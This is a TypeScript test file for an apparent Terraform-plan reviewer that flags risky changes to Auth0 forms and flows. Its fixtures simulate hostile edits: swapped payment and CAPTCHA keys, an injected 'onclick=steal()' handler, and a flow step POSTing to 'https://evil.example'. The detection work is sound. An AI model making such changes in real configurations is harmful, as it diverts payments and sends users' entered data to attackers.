import { type Attributes, planThatChanges, replaced } from "../support/hostile-plan";
import { told } from "../support/stored-plans";

const LABEL = '"label":"Role"';
const withComponents = (...components: readonly object[]): Attributes => ({
  auth0_form: {
    nodes: replaced('"components":[', `"components":[${components.map((one) => `${JSON.stringify(one)},`).join("")}`),
  },
});
const inNodes = (from: string, to: string): Attributes => ({ auth0_form: { nodes: replaced(from, to) } });

/** What a form has besides, and nobody sees. */
const SERVICES = withComponents(
  {
    id: "fee",
    category: "FIELD",
    type: "PAYMENT",
    config: {
      charge: { type: "ONE_OFF", one_off: { amount: 10, currency: "EUR" } },
      credentials: { public_key: "pk_ours", private_key: "{{vars.key}}" },
    },
  },
  { id: "paper", category: "FIELD", type: "FILE", config: { storage: { type: "MANAGED" } } },
  {
    id: "human",
    category: "WIDGET",
    type: "RECAPTCHA",
    config: { site_key: "site-of-ours", secret_key: "{{vars.key}}" },
  },
  {
    id: "place",
    category: "WIDGET",
    type: "GMAPS_ADDRESS",
    config: { api_key: "{{vars.key}}", server_key: "{{vars.key_of_ours}}" },
  },
);

test.each<[string, Attributes, string]>([
  [
    "who is paid",
    inNodes("pk_ours", "pk_evil"),
    "hidden-data: What goes with the form unseen is another: `credentials.public_key` `pk_ours` → `pk_evil` in `fee` of stage `Role`.",
  ],
  [
    "how much is paid",
    inNodes('"amount":10', '"amount":1000'),
    "hidden-data: What goes with the form unseen is another: `charge.one_off.amount` `10` → `1000` in `fee` of stage `Role`.",
  ],
  [
    "where files go",
    inNodes("MANAGED", "CUSTOM"),
    "hidden-data: What goes with the form unseen is another: `storage.type` `MANAGED` → `CUSTOM` in `paper` of stage `Role`.",
  ],
  [
    "whose service tells people from robots",
    inNodes("site-of-ours", "site-of-evil"),
    "hidden-data: What goes with the form unseen is another: `site_key` `site-of-ours` → `site-of-evil` in `human` of stage `Role`.",
  ],
  [
    "whose service is asked for addresses",
    inNodes("key_of_ours", "key_of_evil"),
    "hidden-data: What goes with the form unseen is another: `server_key` `{{vars.key_of_ours}}` → `{{vars.key_of_evil}}` in `place` of stage `Role`.",
  ],
])("a form whose change is %s tells it at the top", (_, change, finding) => {
  expect(told(planThatChanges(change, SERVICES)).findings).toEqual([finding]);
});

/** A choice and a yes or no that are kept. */
const CHOICES: Attributes = {
  ...withComponents(
    { id: "size", category: "FIELD", type: "DROPDOWN", config: { options: [{ value: "s", label: "Small" }] } },
    { id: "news", category: "FIELD", type: "BOOLEAN", config: {} },
  ),
  auth0_flow: { actions: replaced('"role":', '"size":"{{fields.size}}","news":"{{fields.news}}","role":') },
};
const NEWS = '"id":"news","category":"FIELD","type":"BOOLEAN","config":{';

test.each<[string, Attributes, string]>([
  [
    "yes and no are exchanged",
    inNodes(NEWS, `${NEWS}"options":{"true":"No","false":"Yes"}`),
    "meaning: What `news` in stage `Role` keeps in `news` is another thing than until now: `true` stands for `Yes` → `No`, `false` stands for `No` → `Yes`. Answers that were given stay as they are, and nobody can tell them from new ones.",
  ],
  [
    "another field of another name and type writes it",
    {
      ...inNodes('"id":"size","category":"FIELD","type":"DROPDOWN"', '"id":"weight","category":"FIELD","type":"TEXT"'),
      auth0_flow: { actions: replaced("{{fields.size}}", "{{fields.weight}}") },
    },
    "meaning: What `weight` in stage `Role` keeps in `size` is another thing than until now: `DROPDOWN` → `TEXT`. Answers that were given stay as they are, and nobody can tell them from new ones.",
  ],
  [
    "its step has another id as well",
    {
      auth0_form: {
        nodes: (text: string) =>
          replaced("step_role", "step_job")(replaced('"type":"DROPDOWN"', '"type":"TEXT"')(text)),
      },
    },
    "meaning: What `size` in stage `Role` keeps in `size` is another thing than until now: `DROPDOWN` → `TEXT`. Answers that were given stay as they are, and nobody can tell them from new ones.",
  ],
])("an answer means something else where %s", (_, change, finding) => {
  expect(told(planThatChanges(change, CHOICES)).findings).toEqual([finding]);
});

test("other words for yes and no, or for a field, are no other meaning", () => {
  const words = inNodes(NEWS, `${NEWS}"options":{"true":"Ja","false":"Nein"}`);

  expect(told(planThatChanges(words, CHOICES)).findings).toEqual([]);
  expect(told(planThatChanges(inNodes(LABEL, '"label":"Your role"'), CHOICES)).findings).toEqual([]);
});

test.each<[string, Attributes, Attributes, readonly string[]]>([
  [
    "component",
    inNodes('"components":[', '"components":[{"id":"role","type":"HTML","config":{"content":"<p onclick=steal()>"}},'),
    {},
    [
      'runs-code: The form runs other code in people\'s browsers than before: `<p onclick="steal()">` in `role` of stage `Role`. It can read what they enter, and send it anywhere.',
    ],
  ],
  [
    "step",
    {
      auth0_form: {
        nodes: (text: string) => text.replace(/\]$/, ',{"id":"step_role","type":"STEP","alias":"Other"}]'),
      },
    },
    {},
    ["never-asked: No login gets to stage `Other`: nothing in the form leads there."],
  ],
  [
    "hidden field",
    { auth0_form: { start: replaced('"hidden_fields":[', '"hidden_fields":[{"key":"plan","value":"paid"},') } },
    { auth0_form: { start: replaced("{", '{"hidden_fields":[{"key":"plan","value":"free"}],') } },
    [
      "hidden-data: What goes with the form unseen is another: `plan` `free` → `paid` in its hidden fields; `plan (2)` nothing → `free` in its hidden fields.",
    ],
  ],
])("a second %s with the same id hides nothing", (_, change, before, findings) => {
  const { findings: found } = told(planThatChanges(change, before));

  expect(findings.filter((one) => !found.includes(one))).toEqual([]);
});

const saving = (value: string): Attributes => ({ auth0_flow: { actions: replaced("{{fields.role}}", value) } });

test.each(["{{fields.role}} admin", "admin{{fields.role}}", "{{fields.role}}7", "役{{fields.role}}"])(
  "%s is more than an answer",
  (value) => {
    expect(told(planThatChanges(saving(value))).findings).toEqual([
      "flow-code: The flow `Team W` changes in more than the answers that it writes: it now sets `user_metadata.role`.",
    ]);
  },
);

test.each([" {{fields.role}} ", "{{fields.role}}, {{fields.role}}", "({{ fields.role }})"])(
  "%s is an answer",
  (value) => {
    expect(told(planThatChanges(saving(value))).findings).toEqual([]);
  },
);

const RESEND = {
  id: "again",
  category: "BLOCK",
  type: "RESEND_BUTTON",
  config: { active_text: "a", button_text: "b", waiting_text: "c", flow_id: "af_ours" },
};
const OTHER_FLOW = {
  "auth0_flow.other": {
    id: "af_other",
    name: "Other",
    actions:
      '[{"id":"call","type":"HTTP","action":"SEND_REQUEST","params":{"method":"POST","url":"https://evil.example"}}]',
  },
};
const UNHELD = "flow-code: The form runs the flow `af_evil` now: what that does, no plan here holds.";

describe("another flow that a form runs is told, where it is run by", () => {
  test.each<[string, Attributes]>([
    ["a node", inNodes("af_wtcLnKcIprJQwNwxDa3ATX", "af_evil")],
    ["a button that sends again", inNodes("af_ours", "af_evil")],
    ["the ending", { auth0_form: { ending: replaced("{", '{"after_submit":{"flow_id":"af_evil"},') } }],
  ])("%s", (_, change) => {
    expect(told(planThatChanges(change, withComponents(RESEND))).findings).toContain(UNHELD);
  });

  test("a node that is new, with what it does where the plan holds it", () => {
    const plan = planThatChanges(inNodes("af_ours", "af_other"), withComponents(RESEND), OTHER_FLOW);
    for (const { address, change } of plan.resource_changes) {
      if (address === "auth0_flow.other") {
        Object.assign(change, { actions: ["no-op"], before: change.after });
      }
    }

    expect(told(plan).findings).toEqual([
      "flow-code: The form runs the flow `Other` now: it runs `HTTP/SEND_REQUEST` with `https://evil.example`.",
    ]);
  });
});

const FIELD = '"config":{"multiline":false},"id":"role","label":"Role","required":true,"sensitive":false,"type":"TEXT"';
const roleOf = (type: string, config: object, isRequired = true): Attributes =>
  inNodes(FIELD, `"config":${JSON.stringify(config)},"id":"role","required":${isRequired},"type":"${type}"`);
const UNANSWERABLE = "stuck: Nobody gets past the form: `role` in `Role` is required, and takes no answer.";

test.each<[string, string, object]>([
  ["whose fewest characters are more than its most", "TEXT", { min_length: 3, max_length: 2 }],
  ["whose least number is above its greatest", "NUMBER", { min_value: 1, max_value: 0 }],
  ["without an option", "DROPDOWN", { options: [] }],
  ["without options", "CHOICE", {}],
])("nobody gets past a required field %s, but past one that is not required", (_, type, config) => {
  expect(told(planThatChanges(roleOf(type, config))).findings).toContain(UNANSWERABLE);
  expect(told(planThatChanges(roleOf(type, config, false))).findings).not.toContain(UNANSWERABLE);
});

test.each<[string, string, object]>([
  ["whose limits are the same", "TEXT", { min_length: 2, max_length: 2 }],
  ["with one limit", "NUMBER", { min_value: 1, max_value: null }],
  ["that takes another answer than its options", "CHOICE", { options: [], allow_other: { enabled: true } }],
  ["whose options are known after the apply", "DROPDOWN", { options: "(var.options)" }],
])("a required field %s can be answered", (_, type, config) => {
  expect(told(planThatChanges(roleOf(type, config))).findings).not.toContain(UNANSWERABLE);
});

test("the first line does not say that all stays as it is where somebody is no longer asked", () => {
  const secrets = [
    { name: "FORM_ID", value: "ap_50OMC5o0vAtQDqJL3NBq7X" },
    { name: "METADATA_KEYS", value: "role,team" },
  ];

  expect(told(planThatChanges({ auth0_action: { secrets } })).verdict).toBe(
    "somebody is no longer asked, or is shown a form that asks nothing · 1 resource changed, none destroyed",
  );
});

/** A plan of HCL in which the part of the form is known only after the apply. */
function planWithUnknown(name: string, isMade = false) {
  const plan = planThatChanges({ auth0_form: { [name]: undefined, ...(isMade && { id: undefined }) } });
  for (const { type, change } of plan.resource_changes) {
    if (type === "auth0_form") {
      change.after_unknown = { [name]: true, id: isMade };
    }
  }
  return { ...plan, configuration: undefined };
}

test.each(["start", "ending", "style", "translations", "messages", "languages"])(
  "of a form whose `%s` nobody can know nothing else is said",
  (part) => {
    expect(told(planWithUnknown(part)).findings).toContain(
      `unknown: What stands in \`${part}\` of the form \`Team F\` is known only after the apply, and the synthesised configuration was not given.`,
    );
    expect(told(planWithUnknown(part)).kinds).not.toContain("stuck");
  },
);

test.each(["start", "nodes", "ending", "style", "translations"])(
  "of a form whose `%s` is no JSON that is said, and not that it is known only after the apply",
  (part) => {
    const { findings, markdown } = told(planThatChanges({ auth0_form: { [part]: "{ not json" } }));

    expect(findings.filter((one) => one.startsWith("unknown:"))).toEqual([
      `unknown: What stands in \`${part}\` of the form \`Team F\` is no JSON of a form: what the form does can not be told.`,
    ]);
    expect(markdown).not.toContain("known only after the apply");
  },
);

test("of a new form whose nodes are no JSON the first line does not say that the apply tells its stages", () => {
  const plan = planThatChanges({ auth0_form: { nodes: "{ not json" } });
  for (const { type, change } of plan.resource_changes) {
    if (type === "auth0_form") {
      Object.assign(change, { actions: ["create"], before: null });
    }
  }

  expect(told({ ...plan, prior_state: undefined }).verdict).toMatch(/^a new form, its stages can not be told/);
});

test("of a form that is made anew the provider says what nobody configures", () => {
  const { findings } = told(planWithUnknown("messages", true));

  expect(findings.filter((one) => one.includes("What stands in"))).toEqual([]);
});
